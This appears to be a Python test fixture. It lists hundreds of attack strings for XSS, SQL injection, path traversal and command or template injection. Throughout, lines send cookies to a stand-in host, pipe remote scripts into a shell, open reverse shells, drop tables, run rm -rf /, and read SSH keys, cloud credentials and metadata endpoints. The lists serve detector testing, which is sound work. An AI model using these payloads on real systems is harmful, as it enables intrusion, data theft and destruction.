"""Attacks written for these tests, from the manuals of the systems that they aim at: new spellings for every rule."""

XSS = r"""
<sCrIpT>confirm(document.cookie)</sCrIpT>
<script/defer src=//cdn.example/x.js></script>
"><script >prompt`9`</script >
<ScRiPt y='>'>top.alert(7)</ScRiPt>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(9)>
<img/src=`%00` onerror=this.onerror=confirm(9)>
<image href="x" onerror="eval(atob('YQ=='))">
<video poster=javascript:alert(9)//></video>
<audio src=x onloadstart=prompt(9)>
<body onpageshow=alert(9)>
<details open ontoggle="self['ale'+'rt'](9)">
<select autofocus onfocus=confirm(3)>
<marquee behavior=alternate onbounce=alert(9)>x</marquee>
<keygen autofocus onfocus=alert(9)>
<input type="image" src="x" onerror="alert(9)">
<object data="data:text/html;base64,PHNjcmlwdD4=">
<embed src="//evil.example/x.swf" allowscriptaccess=always>
<iframe srcdoc="&lt;img src=x onerror=alert(9)&gt;">
<iframe/src="java&#09;script:alert(9)">
<a href=" javascript&colon;alert(9)">x</a>
<a href="vbscript:msgbox(9)">x</a>
<form action="javascript:alert(9)"><input type=submit>
<isindex formaction=javascript:alert(9) type=image>
<button form=f formaction=javascript:alert(9)>x
<link rel=import href="data:text/html,<b>x">
<link rel="stylesheet" href="javascript:alert(9)">
<base href=javascript:/0/>
<meta http-equiv=refresh content="3;url=javascript:alert(9)">
<meta charset="utf-7">
<style>@import 'javascript:alert(9)';</style>
<style>body{background:url("javascript:alert(9)")}</style>
<div style="width:expression(alert(9))">
<p style="behavior:url(x.htc)">
<xml id=x><i><b>&lt;img src=1 onerror=alert(9)&gt;</b></i></xml>
<!--[if gte ie 4]><script>alert(9)</script><![endif]-->
<!--#include virtual="/etc/hosts" -->
<?xml-stylesheet type="text/css" href="data:,x"?>
<svg><animate onbegin=alert(9) attributename=x></svg>
<svg><set attributename=onmouseover to=alert(9)>
<svg><a xlink:href="javascript:alert(9)"><text y=9>x
<svg/onload="setTimeout`alert\x289\x29`">
<custom-tag onanimationend=alert(9) style="animation:x">
<dialog open onclose=alert(9)>
<br size="&{alert(9)}">
<table background="javascript:alert(9)">
" onfocus="alert(9)" autofocus="
' onmouseenter='confirm(1)' x='
x" onpointerrawupdate=alert(9) style=position:fixed;inset:0 y="
javascript:alert(9)
JaVaScRiPt://%0aalert(9)
java%0ascript:alert(9)
data:text/html,<svg onload=alert(9)>
data:image/svg+xml;base64,PHN2Zz4=
vbscript:execute("msgbox 9")
';confirm(9);//
"-prompt(9)-"
\";alert(9)//
'}};alert(9);{{'
</script><script>alert(9)</script>
`${alert(9)}`
[9].map(alert)
[1,2].forEach(prompt)
(alert)(9)
(0,alert)(9)
al\u0065rt(9)
top["al"+"ert"](9)
window['loc'+'ation']='//evil.example'
self[atob`YWxlcnQ=`](9)
document["cookie"]
document.write('<b>')
document.body.innerHTML=location.hash
document.querySelector('form').action='//evil.example'
location.href='//evil.example/?'+document.cookie
location.assign("//evil.example")
localStorage.getItem('token')
navigator.sendBeacon('//evil.example', document.cookie)
new Image().src='//evil.example?'+document.cookie
fetch('//evil.example?'+document.cookie)
import('//evil.example/x.js')
eval(String.fromCharCode(97,108,101,114,116))
String.fromCharCode(88,83,83)
setTimeout("alert(9)",1)
setInterval('x()', 9)
new Function('alert(9)')()
Function("return this")()
constructor.constructor('alert(9)')()
{{constructor.constructor('alert(9)')()}}
{{$on.constructor('alert(9)')()}}
x='a'.constructor.constructor('alert(9)')()
onerror=alert;throw 9
throw onerror=eval,'=alert\x289\x29'
Reflect.apply(alert,null,[9])
window.open('javascript:alert(9)')
document.location.replace('//evil.example')
addEventListener('load',x)
(+[![]]+[])[+[]]
[][(![]+[])[+[]]]
$=~[];$={___:++$}
+ADw-script+AD4-alert(9)+ADw-/script+AD4-
¼script¾alert(¢9¢)¼/script¾
%3Cimg%20src%3Dx%20onerror%3Dalert(9)%3E
%253Cscript%253Ealert(9)%253C/script%253E
&#60;script&#62;alert(9)&#60;/script&#62;
&#x3c;img src=x onerror=alert(9)&#x3e;
\x3cscript\x3ealert(9)\x3c/script\x3e
\u003cimg src=x onerror=alert(9)\u003e
<ſcript>alert(9)</ſcript>
＜script＞alert(9)＜/script＞
<scr<script>ipt>alert(9)</scr</script>ipt>
<img src="x:gif" onerror="window['al\u0065rt'](9)">
<div contenteditable onblur=alert(9)>x
<noscript><p title="</noscript><img src=x onerror=alert(9)>">
<template><s><template><s><img src=x onerror=alert(9)>@shafigullin
<frameset onload=alert(9)>
<bgsound src=javascript:alert(9)>
<layer src="//evil.example/x">
<applet code="x.class" archive="//evil.example/x.jar">
<portal src="//evil.example">
xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(9)"
-moz-binding:url("//evil.example/x.xml#x")
""".strip().splitlines()

SQLI = r"""
1' or '1'='1' --
1' or 1=1 limit 1 -- -
admin'--
admin' #
admin'/*
admin") or ("1"="1
' or ''='
' or 1 -- -
" or ""="
') or true--
')) or (('x'='x
' || '1'='1
' && 1=1 #
'||1#
'^'1
'-0||'
'*'
'/'
'%'
'=0--+
' like '%
' between 'a' and 'z
' in ('a','b') --
1 or 2=2
1 or 1 in (1)
1 and 7=8
1 and 1=0 union all select null, null, version()
1)) and ((3=3
5 rlike (select 1)
1 xor 1=2
1 div 1
-1 union select 1,2,3
-1 union all select null,null,null--
0 union select table_name, column_name from information_schema.columns
1 UnIoN/**/SeLeCt/**/1,user(),3
1%0aunion%0aselect%0a1,2
1 union(select(1),(2))
1e0union select 1,2
1.union select 1,2
1' union select username, password from accounts --
' union select @@version, null #
') union select sleep(9)#
1 order by 9--
1' order by 4 -- -
1 group by 3,4 having 1=1
1' group by id having 2=2#
1; drop table orders
1'; drop table orders; --
1); truncate table logs--
'; insert into admins (name) values ('x') --
'; update users set role='admin' where name='x'; --
'; delete from sessions; --
1; exec xp_cmdshell 'dir'
'; exec master..xp_dirtree '//evil.example/a' --
'; execute immediate 'select 1'
'; declare @q varchar(99); set @q='x'; exec(@q)
1; waitfor delay '0:0:9'--
'; waitfor time '23:59' --
1' and sleep(9) and '1
1 and if(1=1,sleep(9),0)
1-sleep(9)
1 or pg_sleep(9)--
'; select pg_sleep(9)--
1' and benchmark(9000000,sha1(1))#
1 and (select count(*) from generate_series(1,9000000))>0
1' and dbms_pipe.receive_message('a',9)='a
' or 1=utl_inaddr.get_host_address((select user from dual))--
1 and extractvalue(1,concat(0x7e,version()))
1 and updatexml(1,concat(0x7e,user()),1)
1 and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)
1 and ascii(substring((select password from users limit 1),1,1))>64
1' and substr(user(),1,1)='r
1 and length(database())=5
1' and exists(select * from users)--
1' and (select 'x' from users limit 1)='x
case when 1=1 then 1 else 0 end
1' and case when (1=1) then 1 else 1/0 end='1
1,(select case when (1=1) then 1 else 1*(select 1 union select 2) end)
(select 1)
(select(0)from(select(sleep(9)))v)
select * from users where name = 'x'
select user, password from mysql.user
select load_file('/etc/hosts')
select 'x' into outfile '/www/x.php'
1 into dumpfile '/x'
load data infile '/x' into table t
1' procedure analyse(extractvalue(1,concat(0x3a,version())),1)--
1 limit 1,1 procedure analyse()
'; create user x identified by 'y' --
create function sys_eval returns string soname 'lib_x.so'
'; alter table users add x int --
'; grant all on *.* to 'x'@'%' --
'; merge into a using (select 1) b on (1=1) --
match(a) against ('x' in boolean mode)
'; shutdown with nowait; --
@@version
@@datadir
select @@hostname
1 and @@global.version like 5
sys.user_tables
select name from sqlite_master
select banner from v$version
select table_name from all_tables
select 1 from dual
from pg_catalog.pg_user
select name from sysobjects where xtype='u'
1' and json_extract('{"a":1}', '$.a')=1 --
'{"a":1}'::jsonb <@ '{"a":1}'::jsonb --
' and 1::int=1--
x' and 1=cast(version() as int)--
1 and 1=convert(int,@@version)
1' and 1=(select top 1 name from sysobjects)--
1/*!50000union*//*!50000select*/1
1/**/and/**/1=1
1'/**/or/**/1=1#
1'||(select 1)||'
1'+(select 'x')+'
'+version()+'
1'and(1)=(1)#
1'and 1=1%23
1%27%20or%201%3d1
1%2527%2520or%25201%253d1
1\u0027 or 1=1 --
1＇ or 1=1 --
0x31 or 0x31=0x31
char(39)+or+1=1
concat(char(97),char(98))
unhex('61')
0x61646d696e6973747261746f72
x'61646d'
n'admin' or 1=1
' is not null --
' is null or 'x
' collate utf8_bin or 1=1
' regexp '^a
' sounds like 'a
' not like 'x
' order by 1 desc --
' having 1=1 --
' limit 1 offset 1 --
'; --
1';--
') ;#
1' -- -
0' --+
'='
''=''
'or'
1'or'1
1"and"1
a' or a=a --
a') and 1=2 and ('b'='b
`or`1
1 or true
1 || 1=1
1 && sleep(9)
true and false or 1=1
not 1=1 or 1
(1)or(1)=(1)
((1)=(1))
if(1=1,1,2)
iif(1=1,1,2)
nullif(1,1)
greatest(1,2)
make_set(1<2,1)
elt(1=1,2)
st_latfromgeohash(version())
procedure analyse()
bulk insert t from 'c:\x.txt'
openrowset('sqloledb','x';'sa';'y','select 1')
exec sp_executesql n'select 1'
sp_password
xp_regread
2147483648
-9223372036854775808
""".strip().splitlines()

TRAVERSAL = r"""
../../../../etc/hostname
../../boot.ini
..\..\..\windows\win.ini
..%2f..%2f..%2fetc%2fpasswd
..%5c..%5cwindows%5csystem.ini
%2e%2e/%2e%2e/etc/group
%2e%2e%2f%2e%2e%2f
%252e%252e%252fetc%252fshadow
..%252f..%252f
..%c0%af..%c0%afetc/passwd
%c0%ae%c0%ae/%c0%ae%c0%ae/
%e0%80%ae%e0%80%ae/
..%u2215..%u2215etc
..%u2216..%u2216
%uff0e%uff0e/
....//....//....//etc/passwd
..././..././etc/passwd
....\/....\/etc/passwd
..;/..;/manager/html
/..;/admin
../
..\
/../../
./../../x
.././.././etc/passwd
..//..//..//etc//passwd
..///..///
\..\..\..\x
C:\boot.ini
c:\windows\system32\drivers\etc\hosts
c:/windows/win.ini
d:\inetpub\wwwroot\web.config
\\evil.example\share\x
\\?\c:\x
\windows\repair\sam
%systemroot%\system32\config\sam
%windir%\win.ini
/etc/passwd
/etc/shadow%00
/etc/passwd%00.jpg
/etc/ssh/sshd_config
/etc/crontab
/etc/hosts
/etc/mysql/my.cnf
/etc/nginx/nginx.conf
/etc/issue
/proc/self/environ
/proc/1/cmdline
/proc/version
/proc/self/fd/3
/sys/class/net
/var/log/auth.log
/var/log/nginx/access.log
/var/log/messages
/var/www/html/config.php
/var/lib/mysql/mysql/user.MYD
/var/spool/cron/crontabs/root
/var/run/secrets/kubernetes.io/serviceaccount/token
/usr/local/apache2/conf/httpd.conf
/usr/local/etc/php.ini
/usr/share/tomcat/conf/tomcat-users.xml
/users/x/.ssh/id_rsa
/users/x/.bash_history
~/.ssh/authorized_keys
~/.aws/credentials
.git/config
.git/HEAD
.svn/entries
.env
.htaccess
.htpasswd
.bashrc
.npmrc
.docker/config.json
id_rsa
id_ed25519
wp-config.php
web-inf/web.xml
/WEB-INF/classes/application.properties
META-INF/MANIFEST.MF
config/database.yml
app/etc/local.xml
sites/default/settings.php
web.config
global.asax
httpd.conf
php.ini
my.cnf
file:///etc/passwd
file://c:/boot.ini
php://filter/convert.base64-encode/resource=index.php
php://input
expect://id
zip://x.zip#x.php
phar://x.phar/x
jar:file:///x.jar!/
index.php%00.html
page=../../x
/static/../../../etc/hosts
/a/b/c/../../../../../../etc/motd
/..%00/..%00/etc/passwd
..%00/..%00/
%00../%00../
0x2e0x2e/0x2e0x2e/
..0x2f..0x2f
/%2e%2e/%2e%2e
/%5c../%5c../
..%25%35%63..%25%35%63
%%32%65%%32%65/
/opt/lampp/logs/error_log
/opt/lampp/etc/httpd.conf
logs/access_log
../logs/error.log
apache/logs/access.log
c:\xampp\apache\logs\error.log
/dev/mem
/boot/grub/grub.cfg
/srv/www/htdocs/x
""".strip().splitlines()

CODE = r"""
; id
;id;
|id
| id
|| id
& whoami
&& whoami
`id`
$(id)
$(whoami).evil.example
a;uname -a
x | nc evil.example 9999
x && cat /etc/hosts
x || ls -la
x; ls
x|ls
x%0aid
x%0Acat%20/etc/hosts
x;sleep 9
x|sleep 9
x & ping -c 9 127.0.0.1 &
x; ping -n 9 localhost
; curl http://evil.example/x | sh
; wget -qO- http://evil.example/x | bash
; nslookup evil.example
; dig evil.example
; bash -i >& /dev/tcp/10.0.0.1/9999 0>&1
; nc -e /bin/sh 10.0.0.1 9999
; mkfifo /x; cat /x|sh
; python -c 'import os'
; python3 -c "import socket"
; perl -e 'exec "id"'
; ruby -e 'exec "id"'
; php -r 'system("id");'
; node -e 'x'
; rm -rf /
; chmod 777 /x
; chown root x
; kill -9 1
; reboot
; shutdown -h now
; crontab -l
; env
; printenv
; set
; ps aux
; netstat -tulpn
; ss -lnt
; ifconfig -a
; ip addr
; tcpdump -i eth0
; find / -name x
; grep -r password /
; sed -n 1p /etc/hosts
; awk 'BEGIN{system("id")}'
; tar -cf x /etc
; xxd /etc/hosts
; base64 /etc/hosts
; openssl s_client -connect evil.example:9
; ssh evil.example
; scp x evil.example:
; socat tcp:evil.example:9 exec:sh
; lua -e 'os.execute("id")'
; gdb -batch -ex 'x'
; strace -o /x id
; tftp evil.example
; busybox nc evil.example 9
; mysql -uroot
; psql -c 'x'
; sqlite3 x
; docker ps -a
; kubectl get secrets
; systemctl stop x
cat /etc/hosts
cat</etc/hosts
cat${IFS}/etc/hosts
{cat,/etc/hosts}
c''at /etc/hosts
c\at /etc/hosts
c$@at /etc/hosts
/bin/c?t /e?c/h?sts
/???/??t /???/??s?w?
/usr/bin/id
/bin/ls -la
/bin/bash -c id
bash -c "id"
sh -c id
sh -i
echo $PATH
echo $(id)
echo `id`
echo Y2F0 | base64 -d | sh
echo${IFS}x
tac /etc/hosts
head -n 1 /etc/hosts
less /var/log/syslog
more /etc/hosts
nl /etc/hosts
od -c /etc/hosts
strings /etc/hosts
cp /etc/hosts /x
mv x /x
wget http://evil.example/x.sh
curl -O http://evil.example/x
curl evil.example/x.sh|bash
nc -nlvp 9999
ncat --exec /bin/sh evil.example 9
telnet evil.example 25
gzip -c /etc/hosts
zcat /var/log/x.gz
bzcat x.bz2
unzip -l x.zip
tar xf x.tar
git clone http://evil.example/x
make -f x.mk
sudo -l
sudo su
su - root
time ls
nohup id
watch id
timeout 9 id
nice id
env x=1 id
exec id
ansible-galaxy install x
npm install evil
apt-get install x
docker run -v /:/x x
() { :;}; echo x
(){ :|:& };:
$'\x63at' /x
!!
!-2
history | tail
alias x=id
export X=1
~+/x
cat <(id)
cat <<< x
x > /dev/null 2>&1
2>&1
>/dev/tcp/evil.example/9
&& dir
& dir c:\
| type c:\boot.ini
& type %windir%\win.ini
& net user x y /add
& net localgroup administrators x /add
& ipconfig /all
& tasklist
& systeminfo
& ver
& ping -n 9 127.0.0.1
cmd /c dir
cmd.exe /k whoami
powershell -enc SQBFAFgA
powershell.exe -nop -w hidden -c x
powershell -Command "x"
pwsh -c x
Invoke-Expression x
Invoke-WebRequest -Uri http://evil.example
IEX(New-Object Net.WebClient).DownloadString('http://evil.example')
Get-ChildItem -Recurse
Get-Process
Start-Process calc
Set-ExecutionPolicy Bypass
certutil -urlcache -f http://evil.example x
bitsadmin /transfer x http://evil.example c:\x
mshta http://evil.example/x.hta
regsvr32 /s /u /i:http://evil.example scrobj.dll
rundll32 x.dll,x
wmic process call create x
schtasks /create /tn x
reg query hklm\software
cscript x.vbs
for /f %i in ('whoami') do echo %i
for %x in (1 2) do echo %x
if exist c:\x del c:\x
if "%os%"=="x" echo x
set /p x=
w^h^o^a^m^i
{{7*'7'}}
{{config}}
{{config.items()}}
{{self.__init__.__globals__}}
{{''.__class__.__bases__[0].__subclasses__()}}
{{request.application.__globals__}}
{{ lipsum.__globals__['os'].popen('id').read() }}
{{_self.env.registerUndefinedFilterCallback("exec")}}
{{['id']|filter('system')}}
{{9-2}}
{%for x in ().__class__.__base__.__subclasses__()%}
{% import os %}
${9*9}
${T(java.lang.Runtime).getRuntime().exec('id')}
${"freemarker.template.utility.Execute"?new()("id")}
#{9*9}
#{T(java.lang.Runtime)}
*{9*9}
<%= 9*9 %>
<%= system('id') %>
<#assign x="freemarker.template.utility.Execute"?new()>
#set($x=9*9)
{php}echo 9;{/php}
{system('id')}
[[${9*9}]]
@(9*9)
<?php phpinfo(); ?>
<?= `id` ?>
<? system($_GET[0]); ?>
<?=system('id')?>
system('id');
passthru("id")
shell_exec($x)
proc_open('id')
popen('id','r')
eval($_POST[x])
assert($_GET['x'])
preg_replace('/x/e','x','x')
create_function('','x')
call_user_func('system','id')
array_map('assert',$x)
include('http://evil.example/x.txt')
require_once "/x"
file_get_contents('/etc/hosts')
file_put_contents('x.php','x')
base64_decode('x')
gzinflate(base64_decode('x'))
str_rot13('flfgrz')
move_uploaded_file($x,$y)
unserialize($_COOKIE['x'])
O:3:"Foo":1:{s:1:"x";s:1:"y";}
a:1:{i:0;s:1:"x";}
$_GET['x']
$_SERVER['HTTP_HOST']
$GLOBALS['x']
$x=$_REQUEST[0];$x()
$f='sys'.'tem';$f('id')
("sys"."tem")("id")
allow_url_include=on
auto_prepend_file=php://input
disable_functions=
session.save_path=/x
phpinfo()
getenv('PATH')
fopen('x','w')
fsockopen("evil.example",9)
readfile("/etc/hosts")
unlink('x')
opendir('/')
scandir("/")
__import__('os').system('id')
os.system('id')
os.popen("id").read()
subprocess.call(['id'])
subprocess.Popen("id",shell=True)
eval(compile('x','x','exec'))
exec("import os")
open('/etc/hosts').read()
().__class__.__bases__[0]
globals()['x']
pickle.loads(x)
yaml.load(x)
require('child_process').exec('id')
process.mainModule.require('child_process')
global.process.env
this.constructor.constructor('return process')()
process.exit(1)
fs.readFileSync('/etc/hosts')
while(1){}
while(true);
function(){return 1}()
__proto__[x]=1
constructor[prototype][x]=1
constructor.prototype.x
_$$ND_FUNC$$_function(){}
Kernel.exec('id')
IO.popen('id')
File.read('/etc/hosts')
Process.spawn('id')
%x(id)
@{[`id`]}
@{[system "id"]}
Runtime.getRuntime().exec("id")
new ProcessBuilder("id").start()
java.lang.Runtime
java.lang.ProcessBuilder
java.net.URL
javax.naming.InitialContext
com.sun.rowset.JdbcRowSetImpl
org.apache.commons.collections.functors.InvokerTransformer
org.springframework.context.support.ClassPathXmlApplicationContext
class.module.classLoader.resources
ognl.OgnlContext
%{(#a=@java.lang.Runtime@getRuntime())}
%{#context['x']}
${jndi:ldap://evil.example/x}
${${lower:j}ndi:rmi://evil.example/x}
${jndi:${lower:l}dap://evil.example}
${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}
${env:AWS_SECRET_ACCESS_KEY}
${sys:java.version}
rO0ABXNyABFqYXZh
aced00057372
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hosts">]>
<!ENTITY % x SYSTEM "http://evil.example/x.dtd">
<?xml version="1.0"?><!DOCTYPE x>
<xi:include href="file:///etc/hosts"/>
<!--#exec cmd="id"-->
<!--#echo var="DATE_LOCAL"-->
http://127.0.0.1:22/
http://localhost:8080/admin
http://169.254.169.254/latest/meta-data/
http://metadata.google.internal/computeMetadata/v1/
http://[::1]/
http://[::ffff:127.0.0.1]/
http://2130706433/
http://0x7f.1/
http://017700000001/
http://0/
http://127.1/
http://10.0.0.1/
http://192.168.1.1/admin
http://172.16.0.1/
http://100.100.100.200/latest/meta-data/
http://evil.example@127.0.0.1/
http://127.0.0.1.nip.io/
http://①②⑦.⓪.⓪.①/
gopher://127.0.0.1:6379/_info
dict://127.0.0.1:11211/stat
ldap://evil.example/x
tftp://evil.example/x
sftp://evil.example/
file:///proc/self/environ
netdoc:///etc/hosts
jar:http://evil.example/x.jar!/x
*)(uid=*))(|(uid=*
*)(|(objectclass=*))
admin)(&)
(&(cn=*)(userPassword=*))
x)(cn=*
*()|%26'
{"$ne": null}
{"$gt": ""}
[$ne]=1
username[$regex]=.*
{"$where": "sleep(9)"}
' || this.password.match(/.*/)//
';return true;var x='
db.users.find()
x%0d%0aLocation: http://evil.example
x%0d%0aX-Injected: y
x%0d%0a%0d%0a<b>
x\r\nSet-Cookie: a=b
x%0aBcc: x@evil.example
x%0d%0aRCPT TO: <x@evil.example>
x%0d%0aA1 LOGOUT
x%0d%0aDELE 1
' or '1'='1' or //user/text()='
'] | //user/* | //x['
count(/child::node())
""".strip().splitlines()

VARIANTS = {"xss": XSS, "sqli": SQLI, "path-traversal": TRAVERSAL, "code-injection": CODE}
